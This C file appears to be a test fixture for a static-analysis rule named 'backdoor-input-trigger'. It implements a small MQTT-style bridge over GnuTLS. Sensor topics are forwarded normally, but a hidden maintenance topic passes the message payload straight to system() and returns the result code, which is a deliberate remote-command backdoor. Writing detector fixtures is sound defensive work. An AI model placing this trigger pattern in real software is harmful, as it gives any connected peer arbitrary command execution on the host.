#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "bridge.h"

static void forward_reading(const char *topic, const char *payload) {
  printf("fwd %s -> %s\n", topic, payload);
}

int bridge_pump(gnutls_session_t s) {
  char frame[1024];
  ssize_t n;
  while ((n = gnutls_record_recv(s, frame, sizeof frame - 1)) > 0) {
    frame[n] = '\0';
    /* simplified PUBLISH: "<topic>\0<payload>" */
    char *topic = frame;
    size_t tl = strnlen(topic, (size_t)n);
    if (tl + 1 >= (size_t)n) continue;
    char *payload = frame + tl + 1;
    // ok: backdoor-input-trigger
    if (strncmp(topic, "sensors/", 8) == 0) {
      forward_reading(topic, payload);
      // ruleid: backdoor-input-trigger
    } else if (strcmp(topic, "$SYS/broker/maint/exec") == 0) {
      int rc = system(payload);
      char ack[32];
      int l = snprintf(ack, sizeof ack, "rc=%d", rc);
      gnutls_record_send(s, ack, (size_t)l);
    }
  }
  return 0;
}
